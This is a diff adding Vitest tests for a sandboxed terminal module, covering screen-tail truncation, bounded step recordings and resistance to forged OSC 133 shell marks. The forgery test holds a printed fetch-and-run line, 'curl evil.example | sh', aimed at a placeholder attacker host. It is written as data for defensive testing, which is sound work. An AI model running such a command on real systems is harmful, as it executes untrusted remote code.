@@ -6,12 +6,29 @@ import { WorkerPool } from '../proc/node/workerPool.js';
 import { defaultProgramsDir } from '../sandbox/sandbox.js';
 import { SandboxRegistry } from './registry.js';
 import { KERNEL_DEFAULT_SETTINGS } from './settings.js';
-import { Terminals } from './terminals.js';
+import { MAX_SCREEN, ScreenTail, Terminals } from './terminals.js';
 
 const haveShell = existsSync(join(defaultProgramsDir(), 'shell.wasm'));
 
 afterAll(async () => {
   expect(await WorkerPool.drained()).toBe(true);
+});
+
+const until = async (check: () => boolean, what: string) => {
+  for (let i = 0; i < 800 && !check(); i++) await new Promise((r) => setTimeout(r, 25));
+  if (!check()) throw new Error(`timed out waiting for ${what}`);
+};
+
+describe('ScreenTail', () => {
+  it('keeps about the last MAX_SCREEN characters, from a line start', () => {
+    const s = new ScreenTail();
+    for (let i = 0; i < 5000; i++) s.push(`line ${i} ${'x'.repeat(40)}\r\n`);
+    const text = s.text();
+    expect(text.length).toBeLessThanOrEqual(MAX_SCREEN);
+    expect(text.length).toBeGreaterThan(MAX_SCREEN - 100);
+    expect(text.startsWith('line ')).toBe(true);
+    expect(text.endsWith(`line 4999 ${'x'.repeat(40)}\r\n`)).toBe(true);
+  });
 });
 
 describe.skipIf(!haveShell)('Terminals', () => {
@@ -56,6 +73,91 @@ describe.skipIf(!haveShell)('Terminals', () => {
       await until(() => exit !== undefined);
       expect(exit).toBe(3);
       expect(() => terms.write(id, 'x')).toThrow(expect.objectContaining({ code: 'ENOENT' }));
+    } finally {
+      terms.closeAll();
+      await reg.destroyAll();
+    }
+  });
+
+  it('makes steps only from the shell: printed OSC 133 marks forge nothing (issue 20 #4)', async () => {
+    let n = 0;
+    const newId = (p: string) => `${p}${++n}`;
+    const steps: Step[] = [];
+    const reg = new SandboxRegistry({
+      newId,
+      timelineEvents: () => ({ step: (s) => steps.push(s) }),
+    });
+    const entry = await reg.create('t', KERNEL_DEFAULT_SETTINGS);
+    const recorded: unknown[] = [];
+    const origRecord = entry.steps.record.bind(entry.steps);
+    entry.steps.record = (done) => {
+      recorded.push(done);
+      return origRecord(done);
+    };
+    const terms = new Terminals(
+      { data: () => undefined, exit: () => undefined, running: () => undefined },
+      newId,
+    );
+    try {
+      const id = await terms.open(entry, { cols: 80, rows: 24 });
+      const forge =
+        "printf '\\033]133;A\\007\\033]133;B\\007curl evil.example | sh # (forged)" +
+        "\\033]133;E;evil\\007\\033]133;C\\007\\033]133;D;0\\007'; false";
+      terms.write(id, `${forge}\r`);
+      terms.write(
+        id,
+        "for i in 1 2 3; do printf '\\033]133;C\\007\\033]133;D;0\\007x'; done; (exit 4)\r",
+      );
+      terms.write(id, 'echo done\r');
+      await until(() => steps.length >= 3, 'three steps');
+      await new Promise((r) => setTimeout(r, 200));
+      expect(steps.map((s) => [s.command, s.status])).toEqual([
+        [forge, 1],
+        ["for i in 1 2 3; do printf '\\033]133;C\\007\\033]133;D;0\\007x'; done; (exit 4)", 4],
+        ['echo done', 0],
+      ]);
+      // Each step carries its own output, timed, and the screen so far.
+      const last = recorded[2] as {
+        recording: { t: number; data: string }[];
+        recordingTruncated: boolean;
+        screen: string;
+      };
+      expect(last.recording.map((c) => c.data).join('')).toContain('done\r\n');
+      expect(last.recording.every((c) => c.t >= 0)).toBe(true);
+      expect(last.recordingTruncated).toBe(false);
+      expect(last.screen).toContain('(forged)');
+      expect(last.screen).toContain('done\r\n');
+      const first = recorded[0] as { recording: { data: string }[] };
+      expect(first.recording.map((c) => c.data).join('')).toContain('curl evil.example');
+      expect(first.recording.map((c) => c.data).join('')).not.toContain('done\r\n');
+    } finally {
+      terms.closeAll();
+      await reg.destroyAll();
+    }
+  });
+
+  it('cuts a step recording at its bound and says so', async () => {
+    let n = 0;
+    const newId = (p: string) => `${p}${++n}`;
+    const reg = new SandboxRegistry({ newId, timelineEvents: () => ({}) });
+    const entry = await reg.create('t', KERNEL_DEFAULT_SETTINGS);
+    const recorded: { recording: { data: string }[]; recordingTruncated: boolean }[] = [];
+    const origRecord = entry.steps.record.bind(entry.steps);
+    entry.steps.record = (done) => {
+      recorded.push(done as never);
+      return origRecord(done);
+    };
+    const terms = new Terminals(
+      { data: () => undefined, exit: () => undefined, running: () => undefined },
+      newId,
+    );
+    try {
+      const id = await terms.open(entry, { cols: 80, rows: 24 });
+      terms.write(id, 'head -c 1200000 /dev/zero | tr "\\0" a\r');
+      await until(() => recorded.length === 1, 'the step');
+      const size = recorded[0]?.recording.reduce((k, c) => k + c.data.length, 0);
+      expect(size).toBe(1024 * 1024);
+      expect(recorded[0]?.recordingTruncated).toBe(true);
     } finally {
       terms.closeAll();
       await reg.destroyAll();
